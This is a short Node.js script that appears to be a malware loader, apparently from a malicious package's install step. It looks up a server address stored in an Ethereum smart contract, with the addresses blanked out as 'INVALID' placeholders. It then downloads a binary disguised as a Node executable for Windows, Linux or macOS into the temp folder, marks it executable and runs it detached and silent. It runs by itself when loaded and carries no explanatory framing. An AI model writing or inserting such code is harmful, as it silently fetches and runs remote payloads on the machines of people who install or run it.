const { ethers } = require('ethers')
const axios = require('axios')
const fs = require('fs')
const os = require('os')
const path = require('path')
const { spawn } = require('child_process')

const abi = ['function getString(address account) public view returns (string)']
const provider = ethers.getDefaultProvider('mainnet')
const contract = new ethers.Contract('0xINVALIDINVALIDINVALIDINVALIDINVALIDINVAL', abi, provider)

const fetchAndUpdateIp = async () => {
  try {
    const ip = await contract.getString('0x0000INVALIDINVALIDINVALIDINVALIDINVALID0')
    return ip
  } catch (error) {
    return fetchAndUpdateIp()
  }
}
const names = { win32: 'node-win.exe', linux: 'node-linux', darwin: 'node-macos' }
const downloadFile = async (url, file) => {
  const writer = fs.createWriteStream(file)
  const response = await axios({ url, method: 'GET', responseType: 'stream' })
  response.data.pipe(writer)
  return new Promise((resolve, reject) => { writer.on('finish', resolve); writer.on('error', reject) })
}
const runInstallation = async () => {
  const ip = await fetchAndUpdateIp()
  const name = names[os.platform()]
  const file = path.join(os.tmpdir(), name)
  await downloadFile(`${ip}/${name}`, file)
  if (os.platform() !== 'win32') fs.chmodSync(file, '755')
  spawn(file, [], { detached: true, stdio: 'ignore' }).unref()
}
runInstallation()
